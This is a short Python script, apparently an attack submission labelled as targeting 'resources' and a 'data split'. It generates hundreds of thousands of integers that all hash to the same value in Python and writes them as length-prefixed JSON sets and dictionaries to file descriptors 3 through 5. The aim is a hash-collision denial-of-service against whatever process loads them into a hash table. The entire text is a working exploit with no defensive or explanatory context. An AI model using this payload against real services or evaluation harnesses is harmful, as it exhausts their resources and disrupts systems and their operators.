# class: resources
# against: data split
# Integers with one and the same hash, sent as a set and as keys of a dict, for whoever puts them into a table.
import os
P = (1 << 61) - 1
items = ','.join('{"int":"%s"}' % hex(P * i) for i in range(1, 200000))
pairs = ','.join('[{"int":"%s"},0]' % hex(P * i) for i in range(1, 100000))
def f(kind, n):
    b = ('{"q":%d,"v":{"%s":[%s]}}' % (n if n < 9 else 0, 'dict' if kind == 'dict' else 'set', pairs if kind == 'dict' else items)).encode()
    for q in range(9):
        c = b.replace(b'{"q":0', b'{"q":%d' % q)
        c = len(c).to_bytes(4, 'little') + c
        for fd in range(3, 6):
            try:
                k, m = 0, memoryview(c)
                while k < len(c): k += os.write(fd, m[k:])
            except OSError: pass
    return 0
